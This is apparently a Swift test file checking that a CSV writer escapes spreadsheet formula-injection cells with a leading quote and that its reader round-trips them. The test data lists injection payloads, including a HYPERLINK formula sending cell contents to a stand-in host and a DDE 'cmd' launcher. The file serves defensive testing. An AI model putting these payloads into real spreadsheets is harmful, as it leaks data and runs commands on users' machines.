import Foundation
@testable import InspectionDocuments
import Testing

/// CSV cells that Excel and WPS would run as formulas are written as text (a leading `'`), and
/// liancha's own reader takes them back unchanged.
@Suite struct CSVInjectionTests {
    static let dangerous = ["=HYPERLINK(\"http://x.example/?\"&A1,\"点此\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
                            "\tindented", "\r=1+1", "=", "-"]
    static let harmless = ["普通文本", "a=b", "1-2", "'quoted", "'", "''=x", " =x", "130111", ""]

    /// The cells of `data` as an Excel-like CSV reader sees them: no `'` dropped.
    func rawCells(_ data: Data) throws -> [[String]] {
        var scanner = CSVScanner(utf8: Data(data.dropFirst(3)))
        var rows: [[String]] = []
        var fields: [String] = []
        while try scanner.next(into: &fields) {
            rows.append(fields)
            fields = []
        }
        return rows
    }

    @Test func aCellThatWouldRunAsAFormulaStartsWithAQuote() throws {
        let data = CSVWriter.write(header: ["名称"], rows: (Self.dangerous + Self.harmless).map { [$0] })
        let cells = try rawCells(data).dropFirst().map { $0[0] }
        #expect(cells.count == Self.dangerous.count + Self.harmless.count)
        for (cell, original) in zip(cells, Self.dangerous) {
            #expect(cell.hasPrefix("'") && cell.dropFirst() == original[...], "\(cell)")
        }
        for (cell, original) in zip(cells.dropFirst(Self.dangerous.count), Self.harmless) {
            #expect(cell == original)
        }
    }

    @Test func lianchaReadsItsOwnExportBackUnchanged() throws {
        let rows = (Self.dangerous + Self.harmless).map { [$0, "x"] }
        var table = try TableReader(data: CSVWriter.write(header: ["=名称", "备注"], rows: rows), format: .csv)
        #expect(table.header == ["=名称", "备注"])
        #expect(try table.readAll().map(\.cells) == rows)
    }
}
